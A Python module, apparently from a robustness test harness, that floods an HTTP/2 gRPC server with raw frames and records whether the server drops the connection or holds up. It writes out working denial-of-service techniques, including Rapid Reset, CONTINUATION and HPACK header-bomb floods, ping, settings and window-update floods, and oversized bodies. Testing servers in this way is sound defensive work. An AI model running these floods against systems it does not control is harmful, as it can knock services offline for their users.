"""Those who speak HTTP/2 well enough, and too much of it."""

import select
import time

import frames
import target as targets
from frames import (CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RESET, SETTINGS,
                    WINDOW_UPDATE, number)

READ = {":path": "/senconet.v1.Allocations/Get"}
# Of the first school of the bench, 9100001.
ALLOCATION = b"\x08\xe1\xb5\xab\x04\x12\x072012-13"
AT_ONCE = 32


def frame(kind, flags, stream, payload=b""):
    return number(len(payload), 3) + bytes([kind, flags]) + number(stream) + payload


def pour(target, peer, make, seconds=8):
    """Sends what make() gives, as fast as it is taken, until the server has ended the connection."""
    until = time.monotonic() + seconds
    peer.socket.settimeout(5)
    try:
        while not target.stopping and time.monotonic() < until:
            peer.socket.sendall(make())
    except OSError:
        pass
    if target.stopping or time.monotonic() >= until:
        target.lasted(peer)
    else:
        target.ended(peer, targets.how_it_ended(peer))
    peer.socket.close()


def greeted(target, known=True):
    peer = target.peer(known)
    peer.until(SETTINGS)
    return peer


def in_blocks(target, piece, begin=b""):
    peer = greeted(target)
    peer.socket.sendall(begin)
    block = piece * (16384 // len(piece))
    pour(target, peer, lambda: block)


def opened():
    """A request that is never whole, for frames that need a stream."""
    return frame(HEADERS, END_HEADERS, 1, frames.request_headers())


def pings(target):
    in_blocks(target, frame(PING, 0, 0, bytes(8)))


def settings(target):
    in_blocks(target, frame(SETTINGS, 0, 0))


def priorities(target):
    in_blocks(target, frame(PRIORITY, 0, 1, number(0) + b"\x10"), opened())


def windows(target):
    in_blocks(target, frame(WINDOW_UPDATE, 0, 0, number(1)), opened())


def zero_windows(target):
    in_blocks(target, frame(WINDOW_UPDATE, 0, 0, number(0)))


def empty_data(target):
    in_blocks(target, frame(DATA, 0, 1), opened())


def unknown_frames(target):
    in_blocks(target, frame(0xfa, 0, 0))


def continuation(target):
    in_blocks(target, frame(CONTINUATION, 0, 1), frame(HEADERS, 0, 1, frames.request_headers()))


class Numbers:
    """Streams, one after the other."""

    def __init__(self):
        self.last = -1

    def next(self):
        self.last += 2
        return self.last


def rapid_reset(target):
    numbers, named = Numbers(), frames.request_headers()

    def make():
        return b"".join(frame(HEADERS, END_HEADERS, stream, named) + frame(RESET, 0, stream, number(CANCEL))
                        for stream in (numbers.next() for _ in range(50)))

    pour(target, greeted(target), make)


def ask_in_turn(target, peers, request):
    """Requests, so many at once on each connection, the next one with each answer, until they are ended."""
    numbers = {peer: Numbers() for peer in peers}
    for peer in peers:
        peer.socket.sendall(b"".join(request(numbers[peer].next()) for _ in range(AT_ONCE)))
    while peers and not target.stopping:
        ready = [peer for peer in peers if peer.socket.pending()] or select.select(
            [peer.socket for peer in peers], [], [], 0.2)[0]
        for peer in [peer for peer in peers if peer in ready or peer.socket in ready]:
            if not ask_next(target, peer, request, numbers[peer]):
                peers.remove(peer)
    for peer in peers:
        target.lasted(peer)
        peer.socket.close()


def ask_next(target, peer, request, numbers):
    """Answers there are, each made up for by a request. Only ends of streams are looked at."""
    try:
        data = peer.socket.recv(65536)
        peer.buffered = getattr(peer, "buffered", b"") + data
        ended, taken = count_ends(peer)
        more = b"".join(request(numbers.next()) for _ in range(ended))
        peer.socket.sendall(more + (frame(WINDOW_UPDATE, 0, 0, number(taken)) if taken else b""))
        if data:
            return True
    except OSError:
        pass
    target.ended(peer, "closed" if not getattr(peer, "said", None) else f"GOAWAY {peer.said}")
    peer.socket.close()
    return False


def count_ends(peer):
    """How many streams have ended in what has come, and the bytes of their data."""
    data, at, ended, taken = peer.buffered, 0, 0, 0
    while len(data) - at >= 9:
        size = int.from_bytes(data[at:at + 3], "big")
        if len(data) - at < 9 + size:
            break
        kind, flags = data[at + 3], data[at + 4]
        ended += kind in (HEADERS, DATA) and flags & END_STREAM
        taken += size if kind == DATA else 0
        if kind == frames.GOAWAY:
            code = int.from_bytes(data[at + 13:at + 17], "big")
            peer.said = targets.CODES.get(code, code)
        at += 9 + size
    peer.buffered = data[at:]
    return ended, taken


def asking(message=b"", **more):
    named = frames.request_headers(**more)
    body = b"\0" + number(len(message)) + message

    def request(stream):
        return frame(HEADERS, END_HEADERS, stream, named) + frame(DATA, END_STREAM, stream, body)
    return request


def flood(target):
    ask_in_turn(target, [greeted(target) for _ in range(4)], asking(ALLOCATION, **READ))


def stranger_flood(target):
    ask_in_turn(target, [greeted(target, known=False) for _ in range(4)], asking())


def header_flood(target):
    """15 KiB of headers to a request, each written out in full."""
    ask_in_turn(target, [greeted(target) for _ in range(4)], asking(more="x" * 15000, **{":path": "/no/such"}))


def long_headers(target):
    named, numbers = frames.request_headers(more="x" * 15000), Numbers()
    pieces = [b"\0" + frames.text(f"more{at}") + frames.text("y" * 12000) for at in range(2)]

    def make():
        stream = numbers.next()
        return (frame(HEADERS, END_STREAM, stream, named) + frame(CONTINUATION, 0, stream, pieces[0]) +
                frame(CONTINUATION, END_HEADERS, stream, pieces[1]))

    read_while_pouring(target, greeted(target), make)


def header_bomb(target):
    """A header of 4,000 bytes goes into the table once; each byte after that stands for all of it."""
    named = frames.request_headers() + b"\x40" + frames.text("bomb") + frames.text("x" * 4000)
    numbers = Numbers()

    def make():
        return frame(HEADERS, END_HEADERS | END_STREAM, numbers.next(), named + b"\xbe" * (16384 - len(named)))

    read_while_pouring(target, greeted(target), make)


def oversized(target):
    """16 MiB said and sent: what the server answers does not matter."""
    body, numbers = bytes(16384), Numbers()
    peer = greeted(target)
    stream = numbers.next()
    peer.socket.sendall(frame(HEADERS, END_HEADERS, stream, frames.request_headers()) +
                        frame(DATA, 0, stream, b"\0" + number(16 << 20)))
    read_while_pouring(target, peer, lambda: frame(DATA, 0, stream, body))


def read_while_pouring(target, peer, make, seconds=8):
    """What the server says is read and noted between what is sent, without heeding it."""
    until, ended = time.monotonic() + seconds, False
    peer.socket.settimeout(5)
    while not ended and not target.stopping and time.monotonic() < until:
        try:
            peer.socket.sendall(make())
            ended = note_what_came(target, peer)
        except OSError:
            ended = True
    if ended:
        target.ended(peer, targets.how_it_ended(peer, 1) if not getattr(peer, "told", None) else peer.told)
    else:
        target.lasted(peer)
    peer.socket.close()


def note_what_came(target, peer):
    """True where the stream or the connection has been ended by the server."""
    while peer.socket.pending() or select.select([peer.socket], [], [], 0)[0]:
        try:
            kind, _, stream, payload = peer.read()
        except EOFError:
            peer.told = getattr(peer, "told", None) or "closed"
            return True
        status = peer.headers.get(stream, {}).pop("grpc-status", None)
        if status is not None:
            target.told(targets.words_of(status, peer.headers[stream].get("grpc-message", "")))
        if kind in (RESET, frames.GOAWAY):
            code = int.from_bytes(payload[:4] if kind == RESET else payload[4:8], "big")
            peer.told = f"{'RST_STREAM' if kind == RESET else 'GOAWAY'} {targets.CODES.get(code, code)}"
            return True
    return False


def truncated(target):
    """A connection for each length, closed after it."""
    whole = asking()(1)
    for length in range(len(whole)):
        if target.stopping:
            return
        peer = target.peer()
        peer.socket.sendall(whole[:length])
        target.ended(peer, "left by the client")
        peer.socket.close()
